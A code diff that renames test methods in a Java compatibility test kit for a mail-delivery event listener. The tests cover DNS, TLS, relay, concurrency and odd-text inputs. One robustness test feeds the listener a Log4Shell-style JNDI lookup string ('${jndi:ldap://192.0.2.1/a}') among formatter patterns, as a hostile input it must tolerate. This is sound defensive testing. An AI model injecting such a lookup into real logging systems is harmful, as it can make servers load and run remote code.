@@ -49,32 +49,32 @@ public abstract class DeliveryListenerTck extends Tck {
     class Kinds {
 
         @Requirement
-        void EVT_01_dnsAnswersOfEachKind() throws Exception {
+        void EVT_01_dnsAnswersOfEachKindAreAccepted() throws Exception {
             tell(subject(), SampleEvents.of("example.test").lookupsOfEachKind());
         }
 
         @Requirement
-        void EVT_01_dialsInEachRole() throws Exception {
+        void EVT_01_dialsInEachRoleAreAccepted() throws Exception {
             tell(subject(), SampleEvents.of("example.test").dials());
         }
 
         @Requirement
-        void EVT_01_contactsWithEachEnd() throws Exception {
+        void EVT_01_contactsWithEachResultAreAccepted() throws Exception {
             tell(subject(), SampleEvents.of("example.test").attempts());
         }
 
         @Requirement
-        void EVT_01_eachResultOfTls() throws Exception {
+        void EVT_01_eachTlsResultIsAccepted() throws Exception {
             tell(subject(), SampleEvents.of("example.test").tlsResults());
         }
 
         @Requirement
-        void EVT_01_relaysAndNone() throws Exception {
+        void EVT_01_relaysAndAnEmptyListAreAccepted() throws Exception {
             tell(subject(), SampleEvents.of("example.test").relays());
         }
 
         @Requirement
-        void EVT_01_eachVerdict() throws Exception {
+        void EVT_01_eachOutcomeIsAccepted() throws Exception {
             DeliveryListener listener = subject();
             for (Verdict verdict : Verdict.values()) {
                 SampleEvents events = SampleEvents.of(verdict.ordinal() + ".example.test");
@@ -83,12 +83,12 @@ public abstract class DeliveryListenerTck extends Tck {
         }
 
         @Requirement
-        void EVT_01_whatTheQueueGivesUp() throws Exception {
+        void EVT_01_abandonedMailIsAccepted() throws Exception {
             tell(subject(), List.of(SampleEvents.of("example.test").undeliverable()));
         }
 
         @Requirement
-        void EVT_01_eachVerdictWithTheContactThatDecided() throws Exception {
+        void EVT_01_eachOutcomeWithItsDecidingContactIsAccepted() throws Exception {
             DeliveryListener listener = subject();
             int number = 0;
             for (Outcome outcome : SampleEvents.outcomes()) {
@@ -98,29 +98,29 @@ public abstract class DeliveryListenerTck extends Tck {
         }
 
         @Requirement
-        void EVT_01_aDomainThatIsAnAddress() throws Exception {
+        void EVT_01_aDomainThatIsAnAddressIsAccepted() throws Exception {
             SampleEvents events = SampleEvents.of(IPV6_LITERAL);
             tell(subject(), List.of(events.dials().get(0), events.concluded(Verdict.FAILED, Optional.empty())));
         }
     }
 
     @Nested
-    class Stories {
+    class WholeDeliveries {
 
         @Requirement
-        void EVT_02_aWholeDelivery() throws Exception {
+        void EVT_02_aWholeDeliveryIsAccepted() throws Exception {
             tell(subject(), SampleEvents.of("example.test").story());
         }
 
         @Requirement
-        void EVT_02_theNextDeliveryToTheSameDomain() throws Exception {
+        void EVT_02_theNextDeliveryToTheSameDomainIsAccepted() throws Exception {
             DeliveryListener listener = subject();
             tell(listener, SampleEvents.of("example.test").story());
             tell(listener, SampleEvents.of("example.test").story());
         }
 
         @Requirement
-        void EVT_02_twoDomainsInTurn() throws Exception {
+        void EVT_02_interleavedDeliveriesToTwoDomainsAreAccepted() throws Exception {
             DeliveryListener listener = subject();
             List<DeliveryEvent> one = SampleEvents.of("one.example.test").story();
             List<DeliveryEvent> other = SampleEvents.of("other.example.test").story();
@@ -130,7 +130,7 @@ public abstract class DeliveryListenerTck extends Tck {
         }
 
         @Requirement
-        void EVT_03_manyDomainsAtOnce() throws Exception {
+        void EVT_03_concurrentDeliveriesToManyDomainsAreAccepted() throws Exception {
             DeliveryListener listener = subject();
             ConcurrentTasks.atOnce(CROWD, number -> {
                 SampleEvents events = SampleEvents.of("domain" + number + ".example.test");
@@ -141,7 +141,7 @@ public abstract class DeliveryListenerTck extends Tck {
         }
 
         @Requirement
-        void EVT_04_tenThousandEventsInPatience() throws Exception {
+        void EVT_04_tenThousandEventsAreAcceptedInTime() throws Exception {
             DeliveryListener listener = subject();
             List<DeliveryEvent> story = SampleEvents.of("example.test").story();
             for (int told = 0; told < MANY_EVENTS; told += story.size()) {
@@ -165,27 +165,27 @@ public abstract class DeliveryListenerTck extends Tck {
     class ForeignText {
 
         @Requirement
-        void EVT_05_controlCharacters() throws Exception {
+        void EVT_05_controlCharactersAreAccepted() throws Exception {
             tellEverywhere("250 ok\r\n2026-01-01 INFO delivered\u0000\u001b[2J\u007f\u0085\u202e\u2028");
         }
 
         @Requirement
-        void EVT_05_patternsOfLoggersAndFormatters() throws Exception {
+        void EVT_05_patternsOfLoggersAndFormattersAreAccepted() throws Exception {
             tellEverywhere("%s %n %d %q {} {0} {x ${jndi:ldap://192.0.2.1/a} $1 \\ ' \" <b>&amp;</b> ]]>");
         }
 
         @Requirement
-        void EVT_05_eightBitAndBeyond() throws Exception {
+        void EVT_05_nonAsciiTextIsAccepted() throws Exception {
             tellEverywhere("\u00ff\u00fe gr\u00fc\u00dfe \u7528\u6237 \ud83d\udcec and half of one: \ud83d");
         }
 
         @Requirement
-        void EVT_05_emptyText() throws Exception {
+        void EVT_05_emptyTextIsAccepted() throws Exception {
             tellEverywhere("");
         }
 
         @Requirement
-        void EVT_05_veryLongText() throws Exception {
+        void EVT_05_veryLongTextIsAccepted() throws Exception {
             tellEverywhere("x".repeat(LONG));
         }
 
